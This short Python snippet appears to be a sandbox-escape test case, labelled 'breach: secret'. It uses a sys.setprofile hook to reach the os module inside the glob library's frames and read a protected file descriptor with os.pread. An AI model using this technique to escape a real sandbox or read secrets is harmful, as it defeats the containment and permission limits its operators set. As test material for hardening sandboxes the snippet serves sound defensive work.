# A profile function runs in the frames of the standard library.
# breach: secret
import sys
found = []
def profile(frame, event, argument):
    if "os" in frame.f_globals and not found:
        found.append(frame.f_globals["os"].pread(SECRET_FD, 100, 0))
sys.setprofile(profile)
import glob
glob.glob("x")
sys.setprofile(None)
found
